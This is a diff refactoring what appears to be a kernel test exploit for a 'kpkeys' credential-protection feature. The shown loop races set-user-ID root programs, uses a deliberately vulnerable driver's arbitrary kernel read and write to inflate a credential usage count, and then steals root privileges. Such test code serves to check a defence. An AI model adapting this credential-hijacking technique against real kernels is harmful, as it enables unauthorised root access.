@@ -8,7 +8,6 @@
 #include <fcntl.h>
 #include <signal.h>
 #include <stdlib.h>
-#include <string.h>
 #include <sys/mman.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -67,8 +66,8 @@ static void drop_a_reference(u64 usage)
 }
 
 /*
- * Is it that of a program that is set-user-ID root? The driver tells: system calls
- * follow pointers, and there may be none.
+ * Is it that of a program that is set-user-ID root? The driver tells: system
+ * calls follow pointers, and there may be none.
  */
 static bool is_root(u64 uid)
 {
@@ -89,20 +88,19 @@ static noreturn void stay_for_ever(void)
 
 static noreturn void be_a_candidate(const char *prize, volatile bool *won)
 {
-	struct kpkeys_vuln_creds creds = vuln_creds();
-	u64 uid = vuln_cred();
+	struct kpkeys_vuln_cred mine = vuln_cred();
 	int i;
 
 	setsid();
-	drop_a_reference(creds.usage);
+	drop_a_reference(mine.usage);
 	for (i = 0; i < ROUNDS * 15; i++, nap(20)) {
-		if (!is_root(uid))
+		if (!is_root(mine.uid))
 			continue;
 		/* The count may be elsewhere, and that program have ended. */
-		creds = vuln_creds();
-		if ((int64_t)vuln_read(creds.usage) <= 0)
+		mine = vuln_cred();
+		if ((int64_t)vuln_read(mine.usage) <= 0)
 			continue;
-		vuln_write(creds.usage, vuln_read(creds.usage) + 1000);
+		vuln_write(mine.usage, vuln_read(mine.usage) + 1000);
 		steal_and_alter_as_root(prize);
 		*won = true;
 		break;
